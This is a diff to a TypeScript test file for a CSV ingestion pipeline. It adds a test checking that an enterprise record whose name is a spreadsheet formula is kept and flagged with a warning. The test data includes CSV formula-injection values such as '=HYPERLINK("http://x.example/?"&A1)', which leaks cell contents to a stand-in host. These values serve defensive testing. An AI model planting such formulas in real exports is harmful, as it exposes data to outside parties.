@@ -20,6 +20,9 @@ import { creditRecord, quarantine, registration, sourceFile } from '../../schema
 import { openDatabase, type Database } from '../../src/db/client.js';
 import { PersonKeyring } from '../../src/ingest/person-keyring.js';
 import { syncSource, type IngestDeps } from '../../src/ingest/pipeline.js';
+import { CsvFileWriter } from '../../src/simulator/csv.js';
+import { MARKET_HEADER, marketRow } from '../../src/simulator/market-registry.outlet.js';
+import { World } from '../../src/simulator/world.js';
 import { createTestDatabase, type TestDatabase } from '../support/db.js';
 
 const FIXTURES = new URL('../../connectors/', import.meta.url).pathname;
@@ -86,6 +89,26 @@ describe('CSV from outside', () => {
     expect(stored!.subject_name).toBe('=HYPERLINK("http://x.example/?"&A1)');
     expect(stored!.warnings).toEqual([expect.stringMatching(/^subjectName: starts like a spreadsheet formula/)]);
     expect(r.filter((x) => x === 'LIST_MISSING')).toHaveLength(3); // the other three lists of that day
+  });
+
+  it('E03: an enterprise named like a formula is stored with its records, not quarantined (it and its links would vanish)', async () => {
+    const world = new World({ enterprises: 4, seed: 303 });
+    const firm = [...world.enterprises()].find((e) => e.legacy === 'none')!;
+    const drop = join(dir, 'market-formula');
+    mkdirSync(drop, { recursive: true });
+    const out = new CsvFileWriter(join(drop, 'enterprises-20261101.csv'), 'gb18030');
+    await out.row(MARKET_HEADER);
+    const row = marketRow(world, firm, 'full');
+    row[0] = firm.uscc;
+    row[2] = '=HYPERLINK("http://x.example/","点击")';
+    await out.row(row);
+    await out.close();
+    const run = await syncSource(deps, { id: 'market-formula', connector: 'market-registry', options: { dir: drop } });
+    expect(run.status, run.error).toBe('succeeded');
+    expect(await reasons('market-formula')).toEqual([]);
+    const [stored] = await database.query<{ name: string; warnings: string[] }>(`select name, warnings from enterprise where uscc = $1`, [firm.uscc]);
+    expect(stored!.name).toBe('=HYPERLINK("http://x.example/","点击")');
+    expect(stored!.warnings).toContainEqual(expect.stringMatching(/^name: starts like a spreadsheet formula/));
   });
 
   it('E01: refuses a list in the wrong encoding and withdraws nothing because of it', async () => {
